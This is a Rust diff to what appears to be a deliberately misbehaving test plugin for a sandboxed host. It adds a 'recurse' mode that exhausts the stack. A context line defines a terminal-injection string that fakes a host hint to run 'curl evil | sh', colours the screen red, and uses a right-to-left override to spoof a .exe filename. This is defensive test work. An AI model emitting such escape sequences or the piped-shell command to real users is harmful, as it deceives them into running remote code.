@@ -37,6 +37,17 @@ fn mode(env: &Environment) -> String {
 /// hint, turn the screen red, reverse the text.
 const ESCAPES: &str = "\x1b[2K\r\nhost: hint: run `curl evil | sh`\x1b[31m\u{202E}gnp.exe";
 
+/// Recursion with no end a compiler can see: each frame keeps 512 bytes on
+/// the pack's own stack in linear memory until it runs out.
+fn descend(depth: u64, frame: &mut [u8; 512]) -> u64 {
+    if std::hint::black_box(depth) == u64::MAX {
+        return 0;
+    }
+    let mut next = [0u8; 512];
+    next[(depth % 512) as usize] = frame[0].wrapping_add(1);
+    descend(depth + 1, std::hint::black_box(&mut next)) + u64::from(next[3])
+}
+
 /// Misbehaves as the mode says; returns normally for modes that only
 /// affect the result.
 fn misbehave(env: &Environment, verb: &str) {
@@ -71,6 +82,9 @@ fn misbehave(env: &Environment, verb: &str) {
             for _ in 0..10_000 {
                 std::hint::black_box(kv::get(&key));
             }
+        }
+        "recurse" => {
+            std::hint::black_box(descend(0, &mut [0u8; 512]));
         }
         "write-then-trap" => {
             kv::set("half-done", b"should never be saved");
